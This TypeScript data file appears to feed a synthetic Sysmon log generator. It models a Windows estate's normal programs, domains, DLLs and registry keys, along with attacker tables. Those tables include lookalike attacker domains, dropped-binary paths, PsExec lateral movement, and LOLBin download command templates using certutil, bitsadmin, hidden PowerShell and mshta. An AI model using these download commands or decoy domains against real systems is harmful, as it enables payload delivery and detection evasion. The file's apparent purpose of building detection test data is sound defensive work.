/** What a Windows estate looks like from Sysmon: programs, the names they look up, servers. */

/** A program the background activity runs, and whether and where it connects. */
export interface Program {
  readonly image: string;
  readonly description: string;
  readonly company: string;
  /** Relative weight of its network connections; 0 for programs that never connect. */
  readonly network: number;
  /** Internet names it talks to. */
  readonly names: readonly string[];
  /** Ports it connects to. */
  readonly ports: readonly number[];
  /** Runs as SYSTEM rather than as the logged-on user. */
  readonly system?: boolean;
}

const SYSTEM32 = 'C:\\Windows\\System32';

export const PROGRAMS: readonly Program[] = [
  {
    image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    description: 'Google Chrome',
    company: 'Google LLC',
    network: 30,
    names: [
      'www.google.com',
      'www.youtube.com',
      'github.com',
      'en.wikipedia.org',
      'cdn.jsdelivr.net',
    ],
    ports: [443, 443, 443, 80],
  },
  {
    image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    description: 'Microsoft Edge',
    company: 'Microsoft Corporation',
    network: 20,
    names: ['www.bing.com', 'login.microsoftonline.com', 'www.office.com', 'news.ycombinator.com'],
    ports: [443],
  },
  {
    image: `${SYSTEM32}\\svchost.exe`,
    description: 'Host Process for Windows Services',
    company: 'Microsoft Corporation',
    network: 12,
    names: ['settings-win.data.microsoft.com', 'ctldl.windowsupdate.com', 'time.windows.com'],
    ports: [443, 80],
    system: true,
  },
  {
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    description: 'Microsoft Outlook',
    company: 'Microsoft Corporation',
    network: 8,
    names: ['outlook.office365.com', 'outlook.office.com'],
    ports: [443],
  },
  {
    image: 'C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe',
    description: 'Microsoft OneDrive',
    company: 'Microsoft Corporation',
    network: 6,
    names: ['onedrive.live.com', 'skyapi.live.net'],
    ports: [443],
  },
  {
    image: 'C:\\Program Files\\Slack\\slack.exe',
    description: 'Slack',
    company: 'Slack Technologies, Inc.',
    network: 5,
    names: ['slack.com', 'wss-primary.slack.com', 'files.slack.com'],
    ports: [443],
  },
  {
    image: `${SYSTEM32}\\cmd.exe`,
    description: 'Windows Command Processor',
    company: 'Microsoft Corporation',
    network: 0,
    names: [],
    ports: [],
  },
  {
    image: `${SYSTEM32}\\notepad.exe`,
    description: 'Notepad',
    company: 'Microsoft Corporation',
    network: 0,
    names: [],
    ports: [],
  },
  {
    image: 'C:\\Windows\\explorer.exe',
    description: 'Windows Explorer',
    company: 'Microsoft Corporation',
    network: 0,
    names: [],
    ports: [],
  },
  {
    image: `${SYSTEM32}\\conhost.exe`,
    description: 'Console Window Host',
    company: 'Microsoft Corporation',
    network: 0,
    names: [],
    ports: [],
  },
  {
    image: `${SYSTEM32}\\taskhostw.exe`,
    description: 'Host Process for Windows Tasks',
    company: 'Microsoft Corporation',
    network: 0,
    names: [],
    ports: [],
    system: true,
  },
];

/** DLLs image loads (Sysmon 7) name. */
export const DLLS: readonly string[] = [
  `${SYSTEM32}\\kernel32.dll`,
  `${SYSTEM32}\\ws2_32.dll`,
  `${SYSTEM32}\\crypt32.dll`,
  `${SYSTEM32}\\winhttp.dll`,
  `${SYSTEM32}\\amsi.dll`,
  `${SYSTEM32}\\dnsapi.dll`,
];

/** Registry keys registry events (Sysmon 13) set. */
export const REGISTRY_KEYS: readonly string[] = [
  'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21\\Device',
  'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs',
  'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated',
];

/** Folders file creations (Sysmon 11) land in; `USER` is replaced by the user's name. */
export const FILE_FOLDERS: readonly string[] = [
  'C:\\Users\\USER\\AppData\\Local\\Temp',
  'C:\\Users\\USER\\Downloads',
  'C:\\Users\\USER\\Documents',
  'C:\\Windows\\Prefetch',
  'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans',
];

/** File names for file creations. */
export const FILE_NAMES: readonly string[] = [
  'report.docx',
  'budget.xlsx',
  'setup.log',
  'cache.tmp',
  'notes.txt',
  'invoice.pdf',
];

/** First names for user accounts. */
export const USER_NAMES: readonly string[] = [
  'alice',
  'bob',
  'carol',
  'dave',
  'erin',
  'frank',
  'grace',
  'heidi',
  'ivan',
  'judy',
  'mallory',
  'oscar',
  'peggy',
  'trent',
  'victor',
  'walter',
];

/** Names for attacker infrastructure: hosts beacons and downloads reach. */
export const EVIL_NAMES: readonly string[] = [
  'cdn-update.net',
  'static-assets.org',
  'telemetry-check.com',
  'api-sync.info',
  'msupdate-cache.net',
  'cloud-metrics.io',
];

/** Binaries dropped in user-writable places that phone home or beacon. */
export const DROPPED: readonly string[] = [
  'C:\\Users\\USER\\AppData\\Roaming\\Updater\\updater.exe',
  'C:\\Users\\USER\\AppData\\Local\\Temp\\svc_host.exe',
  'C:\\Users\\Public\\Downloads\\helper.exe',
  'C:\\Users\\USER\\Downloads\\invoice_viewer.exe',
  'C:\\ProgramData\\SyncAgent\\syncagent.exe',
];

/** LOLBins used to download a payload, with the command line shape each takes. */
export const DOWNLOADERS: readonly { image: string; command: string }[] = [
  {
    image: `${SYSTEM32}\\certutil.exe`,
    command: 'certutil.exe -urlcache -split -f URL FILE',
  },
  {
    image: `${SYSTEM32}\\bitsadmin.exe`,
    command: 'bitsadmin.exe /transfer job /download /priority high URL FILE',
  },
  {
    image: `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    command: 'powershell.exe -nop -w hidden -c "iwr URL -OutFile FILE"',
  },
  {
    image: `${SYSTEM32}\\mshta.exe`,
    command: 'mshta.exe URL',
  },
];

/** Lateral movement services: port, the client's image, the server side's image. */
export const LATERAL: readonly { service: string; port: number; client: string; server: string }[] =
  [
    {
      service: 'RDP',
      port: 3389,
      client: `${SYSTEM32}\\mstsc.exe`,
      server: `${SYSTEM32}\\svchost.exe`,
    },
    {
      service: 'WinRM',
      port: 5985,
      client: `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
      server: 'System',
    },
    {
      service: 'SMB',
      port: 445,
      client: 'C:\\Users\\USER\\Downloads\\PsExec64.exe',
      server: 'System',
    },
  ];
